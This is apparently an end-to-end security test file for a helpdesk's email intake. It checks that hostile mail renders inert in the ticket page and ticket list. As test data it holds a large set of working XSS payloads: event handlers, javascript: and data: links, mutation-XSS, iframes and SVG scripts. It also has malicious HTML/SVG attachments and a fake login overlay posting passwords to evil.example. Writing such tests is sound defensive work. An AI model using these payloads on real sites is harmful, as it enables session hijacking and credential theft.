"""Stored XSS through email: hostile mail goes through the real inbound pipeline (parse,
sanitise, thread, store), then an agent opens the ticket and the ticket list in Chromium.
Nothing a sender wrote may run, load from elsewhere, restyle the console or navigate it;
attachments are downloads, never rendered.

Run on their own: ``RUN_E2E=1 python -m pytest -p no:xdist -m e2e tests/e2e/test_email_xss.py``.
"""
from __future__ import annotations

import base64
from email.utils import make_msgid

import pytest
from playwright.sync_api import expect

from channels_hub.models import Channel, InboundEmail, InboundSource, InboundStatus
from channels_hub.services.inbound import inbound_store
from helpdesk.tenancy.context import tenant_scope
from tests.channels_hub.mail import email_channel
from tests.e2e.helpers import acme_desk, elsewhere, signed_in
from tickets.models import Ticket

pytestmark = [pytest.mark.e2e, pytest.mark.django_db(transaction=True)]

EVIL_HOST = "evil.example"

# Every trick at once; each one that worked would set the canary, open a dialog, change the
# title, load from evil.example or navigate away.
HOSTILE_HTML = """\
<html><head>
<meta http-equiv="refresh" content="0;url=http://evil.example/refresh">
<base href="http://evil.example/">
<link rel="stylesheet" href="http://evil.example/sheet.css">
<style>
body { background: url(javascript:window.__pwned='style-url') }
.x { width: expression(window.__pwned='expression') }
* { display: none !important }
@import url(http://evil.example/import.css);
</style>
<script>window.__pwned = 'script'; document.title = 'PWNED'; alert('script')</script>
</head>
<body onload="window.__pwned='body-onload'">
<p>The customer's words survive.</p>
<img src=x onerror="window.__pwned='img-onerror';alert('img')">
<img src="http://evil.example/track.png" alt="tracker">
<div onclick="window.__pwned='onclick'" onmouseover="window.__pwned='onmouseover'" class="hover-me">hover me</div>
<a href="javascript:window.__pwned='js-link'">javascript link</a>
<a href="JaVaScRiPt:alert('mixed case')">mixed case link</a>
<a href="jav&#x09;ascript:window.__pwned='tab-entity'">tab entity link</a>
<a href="jav\tascript:window.__pwned='tab'">tab link</a>
<a href=" &#14; javascript:alert('control')">control link</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgnZGF0YScpPC9zY3JpcHQ+">data link</a>
<a href="vbscript:msgbox(1)">vbscript link</a>
<a href="https://help.acme.test/guide" onclick="window.__pwned='a-onclick'">a help link</a>
<svg><script>window.__pwned='svg-script'</script></svg>
<svg onload="window.__pwned='svg-onload'"><circle r="10"/></svg>
<svg><a xlink:href="javascript:alert('svg-link')"><text y="20">svg link</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned='mxss'"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=window.__pwned='noscript'>"></p></noscript>
<iframe src="javascript:parent.__pwned='iframe'"></iframe>
<iframe srcdoc="<script>parent.__pwned='srcdoc'</script>"></iframe>
<object data="javascript:alert('object')"></object>
<embed src="data:text/html,<script>alert('embed')</script>">
<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:2147483647;background:#fff">
  Your session expired. <form action="http://evil.example/steal" method="post">
  <input name="password" type="password" autofocus onfocus="window.__pwned='onfocus'">
  <button formaction="javascript:alert('formaction')">Sign in</button></form></div>
<div style="background-image:url('http://evil.example/bg.png')">css background</div>
<div style="behavior:url(x.htc);-moz-binding:url(http://evil.example/x.xml#x)">css binding</div>
<details open ontoggle="window.__pwned='ontoggle'"><summary>details</summary></details>
<video><source onerror="window.__pwned='source-onerror'"></video>
<marquee onstart="window.__pwned='marquee'">marquee</marquee>
<isindex type=image src=1 onerror="window.__pwned='isindex'">
<p>The customer's last words.</p>
</body></html>
"""

# In HTML as text (entities): an HTML-only mail's text rendering decodes these into markup,
# which must not come back to life on the way to the page.
ENCODED_HTML = """\
<p>Entity-encoded markup follows.</p>
<p>&lt;img src=x onerror="window.__pwned='entity-img';alert(1)"&gt;</p>
<p>&lt;script&gt;window.__pwned='entity-script'&lt;/script&gt;</p>
<p>&lt;a href="javascript:window.__pwned='entity-link'"&gt;entity link&lt;/a&gt;</p>
<p>Encoded words survive.</p>
"""

LIVE_HTML = """\
<p>Live words survive.</p>
<img src=x onerror="window.__pwned='live-img';alert('live')">
<svg onload="window.__pwned='live-svg'"></svg>
<a href="javascript:window.__pwned='live-link'">live link</a>
<script>window.__pwned='live-script'</script>
"""

HOSTILE_SUBJECT = "Fatura <img src=x onerror=\"window.__pwned='subject'\"> <script>alert('subject')</script> ödeme"
HOSTILE_NAME = "<svg onload=alert('name')>Mallory</svg>"
ATTACHMENT_NAME = "<img src=x onerror=alert(1)>.html"
ATTACHMENT_HTML = b"<html><body><script>parent.__pwned='attachment';alert('attachment')</script></body></html>"
SVG_ATTACHMENT = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(\'svg-file\')"><script>alert(1)</script></svg>'

# Run in the page: whatever a hostile mail managed to put into the conversation.
INSPECT = """() => {
  const entries = document.querySelector('#entries');
  const bodies = Array.from(entries.querySelectorAll('.entry-body'));
  const all = Array.from(entries.querySelectorAll('*'));
  const inBodies = bodies.flatMap(b => [b, ...b.querySelectorAll('*')]);
  return {
    pwned: window.__pwned === undefined ? null : String(window.__pwned),
    title: document.title,
    bases: document.querySelectorAll('base').length,
    handlers: all.flatMap(el => Array.from(el.attributes).filter(a => a.name.toLowerCase().startsWith('on'))
                                  .map(a => el.tagName + '[' + a.name + ']')),
    tags: inBodies.map(el => el.tagName.toLowerCase()).filter(t => [
      'script', 'style', 'iframe', 'frame', 'object', 'embed', 'svg', 'math', 'img', 'video', 'audio', 'source',
      'form', 'input', 'button', 'textarea', 'select', 'meta', 'base', 'link', 'marquee', 'isindex', 'noscript',
      'details'].includes(t)),
    hrefs: Array.from(entries.querySelectorAll('a[href]')).map(a => a.protocol),
    xlinks: Array.from(entries.querySelectorAll('[*|href]:not(a)')).length,
    positioned: inBodies.filter(el => ['fixed', 'sticky'].includes(getComputedStyle(el).position)).length,
    styles: inBodies.map(el => el.getAttribute('style') || '')
                    .filter(s => /url|expression|position|binding|behavio/i.test(s)),
  };
}"""


def compose(*, subject: str, sender: str, message_id: str, in_reply_to: str = "", text: str | None = None,
            html: str | None = None, attachments: tuple[tuple[str, str, bytes], ...] = (),
            related: tuple[tuple[str, str, str, bytes], ...] = ()) -> bytes:
    """Raw MIME written by hand, so headers go out exactly as given (encoded words included).
    ``related``: (file name, content type, Content-ID, bytes) of parts the HTML shows by ``cid:``."""
    def b64(data: bytes) -> str:
        encoded = base64.b64encode(data).decode()
        return "\r\n".join(encoded[i:i + 76] for i in range(0, len(encoded), 76))

    def leaf(content_type: str, data: bytes, disposition: str = "", content_id: str = "") -> str:
        head = [f"Content-Type: {content_type}", "Content-Transfer-Encoding: base64"]
        if disposition:
            head.append(f"Content-Disposition: {disposition}")
        if content_id:
            head.append(f"Content-ID: <{content_id}>")
        return "\r\n".join(head) + "\r\n\r\n" + b64(data) + "\r\n"

    def multipart(subtype: str, boundary: str, parts: list[str]) -> str:
        inner = "".join(f"--{boundary}\r\n{part}" for part in parts)
        return f'Content-Type: multipart/{subtype}; boundary="{boundary}"\r\n\r\n{inner}--{boundary}--\r\n'

    bodies = []
    if text is not None:
        bodies.append(leaf("text/plain; charset=utf-8", text.encode()))
    if html is not None:
        bodies.append(leaf("text/html; charset=utf-8", html.encode()))
    body = bodies[0] if len(bodies) == 1 else multipart("alternative", "alt-boundary-42", bodies)
    if related:
        images = [leaf(content_type, data, f'inline; filename="{name}"', content_id)
                  for name, content_type, content_id, data in related]
        body = multipart("related", "related-boundary-42", [body, *images])
    if attachments:
        files = [leaf(content_type, data, f'attachment; filename="{name}"') for name, content_type, data in attachments]
        body = multipart("mixed", "mixed-boundary-42", [body, *files])
    head = [f"From: {sender}", "To: Acme Support <support@acme.test>", f"Subject: {subject}",
            "Date: Mon, 15 Jan 2024 10:00:00 +0000", f"Message-ID: <{message_id}>", "MIME-Version: 1.0"]
    if in_reply_to:
        head += [f"In-Reply-To: <{in_reply_to}>", f"References: <{in_reply_to}>"]
    return ("\r\n".join(head) + "\r\n" + body).encode()


def new_id() -> str:
    return make_msgid(domain="evil.example")[1:-1]


def encoded_word(value: str) -> str:
    return f"=?UTF-8?B?{base64.b64encode(value.encode()).decode()}?="


def deliver(tenant, *raws: bytes) -> list[InboundEmail]:
    """Each mail through the real pipeline (stored, then processed by the eager task) into
    the tenant's support channel, created on first use."""
    def work():
        with tenant_scope(tenant):
            channel = Channel.objects.filter(address="support@acme.test").first()
        if channel is None:
            channel = email_channel(tenant, acknowledge=False)
        stored = [inbound_store(channel=channel, raw=raw, source=InboundSource.HOOK) for raw in raws]
        with tenant_scope(tenant):
            return [InboundEmail.objects.get(pk=s.pk) for s in stored]

    inbounds = elsewhere(work)
    for inbound in inbounds:
        assert inbound.status == InboundStatus.PROCESSED, (inbound.status, inbound.reason, inbound.error)
    return inbounds


@pytest.fixture
def server(request, tmp_path, monkeypatch, settings):
    """daphne (HTTP + websockets) sharing this process's media directory, so it can serve
    the attachments the pipeline stored here."""
    media = tmp_path / "media"
    media.mkdir()
    monkeypatch.setenv("MEDIA_ROOT", str(media))
    settings.MEDIA_ROOT = media
    return request.getfixturevalue("asgi_server")


class Watch:
    """Everything the page does that a hostile mail could cause: dialogs, script errors,
    console errors and requests to the attacker's host."""

    def __init__(self, page):
        self.dialogs: list[str] = []
        self.errors: list[str] = []
        self.console: list[str] = []
        self.evil_requests: list[str] = []
        page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))
        page.on("pageerror", lambda error: self.errors.append(str(error)))
        page.on("console", lambda msg: self.console.append(msg.text) if msg.type == "error" else None)
        page.on("request", lambda req: self.evil_requests.append(req.url) if EVIL_HOST in req.url else None)

    def assert_quiet(self):
        assert self.dialogs == [], self.dialogs
        assert self.errors == [], self.errors
        assert self.console == [], self.console
        assert self.evil_requests == [], self.evil_requests


def open_ticket(browser, server, desk, ticket):
    """Ada's browser on the ticket page: (context, page, watch, url); the caller closes the context."""
    base = f"http://acme.localhost:{server}"
    url = f"{base}/console/tickets/{ticket.number}/"
    context = signed_in(browser, desk["ada"], base)
    page = context.new_page()
    watch = Watch(page)
    page.goto(url)
    return context, page, watch, url


def test_hostile_mail_renders_inert_on_the_ticket_page(browser, server):
    desk = acme_desk()
    acme = desk["tenant"]
    root_id = new_id()
    first, encoded, files = deliver(
        acme,
        # Hostile markup as the text part too: text that looks like HTML is taken as HTML.
        compose(subject=encoded_word(HOSTILE_SUBJECT), sender=f"{encoded_word(HOSTILE_NAME)} <mallory@evil.example>",
                message_id=root_id, text=HOSTILE_HTML, html=HOSTILE_HTML),
        compose(subject="Re: more", sender="mallory@evil.example", message_id=new_id(),
                in_reply_to=root_id, html=HOSTILE_HTML + ENCODED_HTML),
        compose(subject="Re: files", sender="mallory@evil.example", message_id=new_id(),
                in_reply_to=root_id, text="Two files attached.",
                attachments=((ATTACHMENT_NAME, "text/html", ATTACHMENT_HTML), ("drawing.svg", "image/svg+xml",
                                                                              SVG_ATTACHMENT))),
    )
    assert first.reason == "new-ticket" and {encoded.ticket_id, files.ticket_id} == {first.ticket_id}
    with tenant_scope(acme):
        ticket = Ticket.objects.get(pk=first.ticket_id)
        assert ticket.subject == HOSTILE_SUBJECT  # kept as text, escaped on the way out
        assert ticket.requester.name == HOSTILE_NAME

    context, page, watch, url = open_ticket(browser, server, desk, ticket)
    try:
        expect(page.locator("#live-indicator")).to_have_attribute("data-state", "connected")
        conversation = page.locator("#entries")
        expect(conversation).to_contain_text("The customer's words survive.")
        expect(conversation).to_contain_text("Encoded words survive.")
        # Subject and sender name show as the text they are.
        expect(page.get_by_role("heading", level=1)).to_contain_text("<img src=x onerror=")
        expect(page.locator(".entry-author").first).to_have_text(HOSTILE_NAME)

        # One more hostile reply arrives while the page is open: the live path inserts it.
        deliver(acme, compose(subject="Re: live", sender="mallory@evil.example",
                              message_id=new_id(), in_reply_to=root_id,
                              text=LIVE_HTML, html=LIVE_HTML))
        expect(conversation).to_contain_text("Live words survive.")

        # Handlers that would need a person: hover and click everything in the conversation.
        for body in page.locator("#entries .entry-body").all():
            body.hover()
        page.locator("#entries").get_by_text("hover me").first.click()

        # Attachments: shown by their safe names, and the browser downloads them.
        links = page.locator("#entries .attachments a")
        expect(links).to_have_count(2)
        html_link = links.filter(has_text="onerror")
        with page.expect_download() as download:
            html_link.click()
        assert download.value.suggested_filename.endswith(".html")
        # (Fetched from the page: Playwright's own request client cannot resolve *.localhost.)
        served = page.evaluate("""hrefs => Promise.all(hrefs.map(href => fetch(href).then(r => ({
          status: r.status, disposition: r.headers.get('content-disposition') || '',
          nosniff: r.headers.get('x-content-type-options'), type: r.headers.get('content-type') || ''}))))""",
                               links.evaluate_all("links => links.map(a => a.href)"))
        for response in served:
            assert response["status"] == 200
            assert response["disposition"].startswith("attachment")
            assert response["nosniff"] == "nosniff"
            assert response["type"].split(";")[0] not in ("text/html", "image/svg+xml"), response

        page.wait_for_timeout(300)  # a refresh, a late onerror or a queued timer would have run by now
        found = page.evaluate(INSPECT)
        assert found["pwned"] is None
        assert "PWNED" not in found["title"] and "<img src=x onerror=" in found["title"]
        assert found["bases"] == 0
        assert found["handlers"] == []
        assert found["tags"] == []
        assert set(found["hrefs"]) <= {"http:", "https:", "mailto:", "tel:"}, found["hrefs"]
        assert found["xlinks"] == 0
        assert found["positioned"] == 0 and found["styles"] == []
        assert page.url == url
        watch.assert_quiet()
    finally:
        context.close()


# A 1x1 PNG: the one kind of image a body may show is a raster file of its own message.
PNG = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGP4z8AAAAMBAQDJ/pLvAAAAAElFTkSuQmCC")
CID_HTML = """\
<p>Inline images survive.</p>
<p><img src="cid:shot@evil.example" alt="screenshot" onerror="window.__pwned='cid-onerror'" style="position:fixed"></p>
<p><img src="cid:drawing@evil.example" alt="drawing"><img src="cid:page@evil.example" alt="page"></p>
<p><img src="cid:fake@evil.example" alt="fake"><img src="cid:nowhere@evil.example" alt="nowhere"></p>
<img src="http://evil.example/track.png"><img src="data:image/png;base64,AAAA"><img src="javascript:alert('img')">
"""


def test_only_the_mails_own_raster_images_show_and_load(browser, server):
    desk = acme_desk()
    acme = desk["tenant"]
    [inbound] = deliver(acme, compose(
        subject="Screenshot", sender="mallory@evil.example", message_id=new_id(), text="See the screenshot.",
        html=CID_HTML, related=(("shot.png", "image/png", "shot@evil.example", PNG),
                                ("drawing.svg", "image/svg+xml", "drawing@evil.example", SVG_ATTACHMENT),
                                ("page.html", "text/html", "page@evil.example", ATTACHMENT_HTML),
                                ("fake.png", "image/png", "fake@evil.example", ATTACHMENT_HTML))))
    with tenant_scope(acme):
        ticket = Ticket.objects.get(pk=inbound.ticket_id)
    context, page, watch, _url = open_ticket(browser, server, desk, ticket)
    try:
        expect(page.locator("#entries")).to_contain_text("Inline images survive.")
        image = page.locator("#entries .entry-body img")
        expect(image).to_have_count(2)  # the PNG, and the file declared PNG that is not one
        page.wait_for_load_state("load")
        shown = image.evaluate_all("""images => images.map(img => ({
          src: new URL(img.src).pathname + new URL(img.src).search, alt: img.alt, width: img.naturalWidth,
          attributes: Array.from(img.attributes).map(a => a.name).sort()}))""")
        assert [item["alt"] for item in shown] == ["screenshot", "fake"]
        assert all(item["src"].startswith("/console/tickets/attachments/") and item["src"].endswith("?inline=1")
                   for item in shown), shown
        assert shown[0]["width"] == 1 and shown[1]["width"] == 0  # only real PNG bytes are shown
        assert shown[0]["attributes"] == ["alt", "src"]
        served = page.evaluate("""srcs => Promise.all(srcs.map(src => fetch(src).then(r => ({
          disposition: r.headers.get('content-disposition') || '', type: r.headers.get('content-type') || '',
          corp: r.headers.get('cross-origin-resource-policy'), csp: r.headers.get('content-security-policy')}))))""",
                               [item["src"] for item in shown])
        assert served[0]["disposition"].startswith("inline") and served[0]["type"] == "image/png"
        assert served[1]["disposition"].startswith("attachment")
        assert all(r["corp"] == "same-origin" and "sandbox" in r["csp"] for r in served), served
        # The SVG and the HTML page are listed files; the images the body shows are not.
        listed = page.locator("#entries .attachments a").all_inner_texts()
        assert sorted(listed) == ["drawing.svg", "page.html"]
        for alt in ("drawing", "page", "nowhere"):
            expect(page.locator("#entries .entry-body").first).to_contain_text(alt)

        page.wait_for_timeout(300)
        found = page.evaluate(INSPECT)
        assert found["pwned"] is None and found["handlers"] == []
        assert found["tags"] == ["img", "img"]
        assert found["positioned"] == 0 and found["styles"] == []
        watch.assert_quiet()
    finally:
        context.close()


def test_hostile_subjects_and_sender_names_render_inert_in_the_ticket_list(browser, server):
    desk = acme_desk()
    acme = desk["tenant"]
    deliver(
        acme,
        compose(subject=encoded_word(HOSTILE_SUBJECT), sender=f"{encoded_word(HOSTILE_NAME)} <one@evil.example>",
                message_id=new_id(), text="Encoded words."),
        compose(subject="<script>window.__pwned='raw-subject';document.title='PWNED'</script>Raw",
                sender="\"<img src=x onerror=window.__pwned='raw-name'>\" <two@evil.example>",
                message_id=new_id(), html=HOSTILE_HTML),
        compose(subject=encoded_word("<iframe src=javascript:alert('iframe')></iframe> kargo"),
                sender=f"{encoded_word('<a href=javascript:alert(1)>Eve</a>')} <three@evil.example>",
                message_id=new_id(), text="Where is my parcel?"),
    )

    base = f"http://acme.localhost:{server}"
    context = signed_in(browser, desk["ada"], base)
    try:
        page = context.new_page()
        watch = Watch(page)
        page.goto(f"{base}/console/tickets/")
        expect(page.locator("#live-indicator")).to_have_attribute("data-state", "connected")
        rows = page.locator(".ticket-row")
        expect(rows).to_have_count(3)
        subjects = page.locator(".ticket-row .ticket-subject").all_text_contents()
        assert any("<img src=x onerror=" in s for s in subjects), subjects
        assert any("<script>" in s for s in subjects), subjects
        assert any("<iframe" in s for s in subjects), subjects
        requesters = page.locator(".ticket-row .col-requester").all_text_contents()
        assert any("<img src=x onerror=" in r for r in requesters), requesters
        for row in rows.all():
            row.hover()
        page.wait_for_timeout(300)
        found = page.evaluate("""() => {
          const table = document.querySelector('.ticket-row').closest('table');
          const all = Array.from(table.querySelectorAll('*'));
          return {
            pwned: window.__pwned === undefined ? null : String(window.__pwned),
            title: document.title,
            handlers: all.flatMap(el => Array.from(el.attributes).filter(a => a.name.startsWith('on'))
                                             .map(a => a.name)),
            tags: all.map(el => el.tagName.toLowerCase()).filter(t =>
              ['script', 'img', 'svg', 'iframe', 'object', 'embed', 'style'].includes(t)),
            hrefs: Array.from(table.querySelectorAll('a[href]')).map(a => a.protocol),
          };
        }""")
        assert found["pwned"] is None and "PWNED" not in found["title"]
        assert found["handlers"] == [] and found["tags"] == []
        assert set(found["hrefs"]) <= {"http:", "https:"}, found["hrefs"]
        watch.assert_quiet()
    finally:
        context.close()
